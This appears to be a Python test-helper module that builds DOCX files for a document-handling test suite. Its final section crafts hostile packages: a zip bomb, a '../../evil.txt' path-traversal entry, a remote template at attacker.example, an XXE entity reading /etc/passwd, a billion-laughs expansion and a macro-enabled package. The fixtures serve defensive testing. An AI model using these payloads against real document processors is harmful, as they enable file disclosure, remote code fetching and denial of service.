"""DOCX files made the way other programs make them, and hostile ones, for the tests.

`python_docx_file` is what python-docx writes; `with_parts` rewrites a package with parts
replaced or added (hand-written XML, as a script or another editor would leave it);
`soffice_docx` converts a file with LibreOffice, as a colleague's office suite would.
"""

from __future__ import annotations

import io
import shutil
import subprocess
import tempfile
import zipfile
from collections.abc import Mapping
from pathlib import Path

import docx

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
W14 = "http://schemas.microsoft.com/office/word/2010/wordml"
W15 = "http://schemas.microsoft.com/office/word/2012/wordml"
NS = f'xmlns:w="{W}" xmlns:w14="{W14}" xmlns:w15="{W15}"'
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def python_docx_file(*paragraphs: str, heading: str | None = None) -> bytes:
    """A plain document as python-docx writes it: an optional heading, then paragraphs."""
    document = docx.Document()
    if heading:
        document.add_heading(heading, 1)
    for text in paragraphs:
        document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def with_parts(data: bytes, replaced: Mapping[str, bytes | str]) -> bytes:
    """The package with these parts replaced or added (the others kept as they were)."""
    parts = parts_of(data)
    parts.update({k: v.encode() if isinstance(v, str) else v for k, v in replaced.items()})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def document_xml(body: str) -> str:
    """A main document part with this body XML (paragraphs, runs, w:ins, w:del...)."""
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<w:document {NS} xmlns:r="{R}"><w:body>{body}<w:sectPr/></w:body></w:document>'
    )


def hand_written(body: str, comments: str | None = None, extended: str | None = None) -> bytes:
    """A python-docx package whose document (and comment parts) are written by hand."""
    base = python_docx_file("placeholder")
    parts: dict[str, bytes | str] = {"word/document.xml": document_xml(body)}
    if comments is not None:
        parts["word/comments.xml"] = (
            f'<?xml version="1.0" encoding="UTF-8"?><w:comments {NS}>{comments}</w:comments>'
        )
        rels = parts_of(base)["word/_rels/document.xml.rels"].decode()
        extra = f'<Relationship Id="rIdC1" Type="{R}/comments" Target="comments.xml"/>'
        types = parts_of(base)["[Content_Types].xml"].decode()
        override = (
            '<Override PartName="/word/comments.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"/>'
        )
        if extended is not None:
            parts["word/commentsExtended.xml"] = (
                f'<?xml version="1.0" encoding="UTF-8"?><w15:commentsEx {NS}>{extended}'
                "</w15:commentsEx>"
            )
            extra += (
                '<Relationship Id="rIdC2" Type="http://schemas.microsoft.com/office/2011/'
                'relationships/commentsExtended" Target="commentsExtended.xml"/>'
            )
            override += (
                '<Override PartName="/word/commentsExtended.xml" ContentType="application/'
                'vnd.openxmlformats-officedocument.wordprocessingml.commentsExtended+xml"/>'
            )
        parts["word/_rels/document.xml.rels"] = rels.replace(
            "</Relationships>", extra + "</Relationships>"
        )
        parts["[Content_Types].xml"] = types.replace("</Types>", override + "</Types>")
    return with_parts(base, parts)


def soffice_docx(source: bytes, suffix: str, tmp: Path) -> bytes:
    """The file converted to DOCX by LibreOffice (headless), as its users would save it."""
    soffice = shutil.which("soffice") or "soffice"
    with tempfile.TemporaryDirectory(dir=tmp) as folder:
        path = Path(folder) / f"input{suffix}"
        path.write_bytes(source)
        profile = Path(folder) / "profile"
        subprocess.run(
            [
                soffice,
                f"-env:UserInstallation=file://{profile}",
                "--headless",
                "--convert-to",
                "docx:MS Word 2007 XML",
                "--outdir",
                str(Path(folder) / "out"),
                str(path),
            ],
            check=True,
            capture_output=True,
            timeout=120,
        )
        return (Path(folder) / "out" / "input.docx").read_bytes()


# Hostile packages -------------------------------------------------------------------


def inflating(total: int, name: str = "word/media/blank.bin") -> bytes:
    """A valid document plus one part of `total` zero bytes, deflated to almost nothing,
    written a chunk at a time so the test itself stays small."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for part, content in parts_of(python_docx_file("Bomb.")).items():
            archive.writestr(part, content)
        with archive.open(name, "w", force_zip64=True) as stream:
            chunk = bytes(1024 * 1024)
            for _ in range(total // len(chunk)):
                stream.write(chunk)
    return out.getvalue()


def many_entries(count: int) -> bytes:
    return with_parts(python_docx_file("Many."), {f"word/extra/{i}.txt": "x" for i in range(count)})


def outside_entry() -> bytes:
    return with_parts(python_docx_file("Escape."), {"../../evil.txt": "x"})


def external_template() -> bytes:
    rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="'
        f'{R}/attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>'
        "</Relationships>"
    )
    return with_parts(python_docx_file("Template."), {"word/_rels/settings.xml.rels": rels})


def xxe() -> bytes:
    doc = (
        '<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body>'
        "</w:document>"
    )
    return with_parts(python_docx_file("XXE."), {"word/document.xml": doc})


def billion_laughs() -> bytes:
    entities = '<!ENTITY a0 "lol">' + "".join(
        f'<!ENTITY a{i} "{("&a" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    )
    doc = (
        f'<?xml version="1.0"?><!DOCTYPE w:document [{entities}]>'
        f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>&a9;</w:t></w:r></w:p></w:body>'
        "</w:document>"
    )
    return with_parts(python_docx_file("Laughs."), {"word/document.xml": doc})


def macro_enabled() -> bytes:
    base = python_docx_file("Macro.")
    types = (
        parts_of(base)["[Content_Types].xml"]
        .decode()
        .replace("wordprocessingml.document.main+xml", "PLACEHOLDER")
        .replace(
            "application/vnd.openxmlformats-officedocument.PLACEHOLDER",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
        )
    )
    return with_parts(base, {"[Content_Types].xml": types, "word/vbaProject.bin": b"\0" * 64})


def legacy_doc() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096)
